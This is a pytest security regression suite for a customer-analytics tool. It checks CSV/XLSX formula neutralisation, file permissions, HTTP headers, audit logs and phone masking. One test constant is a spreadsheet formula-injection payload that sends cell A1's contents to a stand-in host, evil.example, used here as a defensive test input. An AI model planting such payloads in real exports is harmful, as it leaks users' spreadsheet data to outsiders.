"""Issue #17 (security and privacy), the findings fixed so far, each written as the attack.

Finding 2: values from logs and imports reach every CSV/XLSX download and CLI export; a
tracking parameter such as `=HYPERLINK(…)` must open in a spreadsheet as text.
Finding 7: the accounts file must stay 0600."""

import csv
import io
import json
import os
import subprocess
import sys

import pytest
from openpyxl import load_workbook

from custlens.output import csv_bytes, neutralise

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cl(cwd, *args):
    env = {**os.environ, "CUSTLENS_QUIET": "1"}
    proc = subprocess.run([sys.executable, "-m", "custlens.cli", *args], cwd=cwd, env=env,
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    return proc


def test_neutralise_only_what_a_spreadsheet_would_run():
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(bad) == "'" + bad
    for fine in ("abc", "12", "a=b", "", "重要价值客户"):
        assert neutralise(fine) == fine


@pytest.mark.slow  # builds and exports through the CLI
def test_cli_csv_and_xlsx_exports_carry_no_live_formula(tmp_path):
    (tmp_path / "events.csv").write_text(
        "user_id,item_id,category_id,behavior,ts,channel\n"
        f'u1,i1,c1,pv,2025-01-01 10:00:00,"{EVIL.replace(chr(34), chr(34) * 2)}"\n'
        "u1,i1,c1,buy,2025-01-01 10:05:00,organic\n", encoding="utf-8")
    _cl(tmp_path, "import", "events", "events.csv")
    query = "SELECT DISTINCT channel FROM dwd_events ORDER BY channel"
    rows = list(csv.reader(io.StringIO(_cl(tmp_path, "sql", query, "--format", "csv").stdout)))
    assert ["'" + EVIL] in rows and [EVIL] not in rows
    raw = list(csv.reader(io.StringIO(_cl(tmp_path, "--raw", "sql", query, "--format", "csv").stdout)))
    assert [EVIL] in raw  # --raw: untouched, for pipelines
    _cl(tmp_path, "sql", query, "--format", "xlsx", "--out", "c.xlsx")
    sheet = load_workbook(tmp_path / "c.xlsx").active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    evil = [c for c in cells if c.value == EVIL]
    assert evil and all(c.data_type == "s" for c in cells)  # text, never a formula
    # the importer reads our neutralised CSV back to the original value
    _cl(tmp_path, "sql", "SELECT user_id, item_id, category_id, behavior, ts, channel FROM dwd_events",
        "--format", "csv", "--out", "again.csv")
    _cl(tmp_path, "--lake", "lake2", "import", "events", "again.csv")
    back = json.loads(_cl(tmp_path, "--lake", "lake2", "sql", query, "--format", "json").stdout)
    assert {r["channel"] for r in back} == {EVIL, "organic"}


def test_the_api_downloads_use_the_same_writer():
    import pyarrow as pa

    table = pa.table({"channel": [EVIL, "ok"], "n": [1, 2]})
    data = csv_bytes(table).decode()
    assert "'=HYPERLINK" in data and "\n" + EVIL not in data


def test_users_file_stays_private_after_a_removal(tmp_path):
    """Issue #17, finding 7: `users.json` (password hashes) became world-readable after
    `custlens users remove`."""
    from custlens.lake import Lake
    from custlens.serve.auth import Accounts

    accounts = Accounts(Lake(tmp_path / "lake"))
    accounts.add("ana", "analyst", "a long enough password")
    accounts.add("bo", "operator", "another long password")
    accounts.remove("bo")
    assert (accounts.path.stat().st_mode & 0o777) == 0o600


# ---- finding 8, the lower ones ---------------------------------------------------------------
def _app_with_admin(tmp_path):
    from fastapi.testclient import TestClient

    from custlens import Workspace
    from custlens.serve.api import create_app
    from custlens.serve.auth import Accounts

    ws = Workspace(lake=tmp_path / "lake")
    ws.settings = ws.settings.with_overrides(serve__secure_cookies=False)
    Accounts(ws.lake).add("root", "admin", "a long enough password")
    Accounts(ws.lake).add("ana", "analyst", "a long enough password")
    app = create_app(ws, refresh=False)  # nothing built: every analysis query fails
    clients = {}
    for name in ("root", "ana"):
        c = TestClient(app)
        csrf = c.get("/api/csrf").json()["csrf"]
        r = c.post("/api/login", json={"name": name, "password": "a long enough password"},
                   headers={"X-CSRF-Token": csrf})
        assert r.status_code == 200
        c.headers["X-CSRF-Token"] = r.json()["csrf"]
        clients[name] = c
    return ws, app, clients


def test_pages_and_answers_carry_security_headers_and_docs_use_no_cdn(tmp_path):
    from fastapi.testclient import TestClient

    ws, app, clients = _app_with_admin(tmp_path)
    anonymous = TestClient(app)
    page, answer = anonymous.get("/"), clients["root"].get("/api/me")
    for r in (page, answer):
        assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
        assert "cdn" not in r.headers["content-security-policy"]
        assert r.headers["x-frame-options"] == "DENY" and r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["cache-control"] == "no-store"
    assert anonymous.get("/docs").status_code == 404  # Swagger's page loads from a CDN: off
    assert anonymous.get("/openapi.json").status_code == 200


def test_engine_errors_and_file_paths_do_not_reach_clients(tmp_path):
    ws, app, clients = _app_with_admin(tmp_path)
    r = clients["root"].get("/api/segments")
    assert r.status_code == 500
    body = r.text
    assert "internal error" in body and str(ws.lake.root) not in body and "Catalog" not in body


def test_logins_denials_and_personal_exports_are_audited_with_addresses(tmp_path):
    from fastapi.testclient import TestClient

    ws, app, clients = _app_with_admin(tmp_path)
    wrong = TestClient(app)
    csrf = wrong.get("/api/csrf").json()["csrf"]
    wrong.post("/api/login", json={"name": "root", "password": "nope nope nope"}, headers={"X-CSRF-Token": csrf})
    assert clients["ana"].get("/api/quarantine").status_code == 403
    entries = [json.loads(line) for line in ws.lake.ops("audit.jsonl").read_text().splitlines()]
    events = {(e.get("event"), e["user"]) for e in entries}
    assert {("login_ok", "root"), ("login_ok", "ana"), ("login_failed", "root"), ("denied", "ana")} <= events
    assert all(e["address"] for e in entries)
    # the CLI's unmasked output is audited as well
    (tmp_path / "c.csv").write_text("user_id,phone\nu1,13812345678\n", encoding="utf-8")
    _cl(tmp_path, "import", "customers", str(tmp_path / "c.csv"))
    _cl(tmp_path, "sql", "SELECT user_id, phone FROM dwd_customers", "--show-personal", "--format", "json")
    last = json.loads(ws.lake.ops("audit.jsonl").read_text().splitlines()[-1])
    assert last["user"].startswith("cli:") and last["what"] == "sql" and last["rows"] == 1
    assert last["subjects"] == [ws.lake.keyed_hash("u1")]


def test_a_short_phone_shows_at_most_half_its_digits():
    from custlens.masking import mask_value

    assert mask_value("phone", "13812345678") == "138****5678"
    assert mask_value("phone", "12345678") == "12****78"  # was 123****5678-style: 7 of 8
    assert mask_value("phone", "1234567") == "****"


def test_names_and_values_are_printed_as_text_not_rich_markup(tmp_path):
    env_name = "[red]mallory[/red]"
    env = {**os.environ, "CUSTLENS_QUIET": "1", "CUSTLENS_PASSWORD": "a long enough password"}
    added = subprocess.run([sys.executable, "-m", "custlens.cli", "users", "add", env_name, "--role",
                            "analyst"], cwd=tmp_path, env=env, capture_output=True, text=True)
    assert added.returncode == 0, added.stderr
    assert env_name in added.stderr  # the message names the user as typed
    listed = _cl(tmp_path, "users", "list")
    assert env_name in listed.stdout
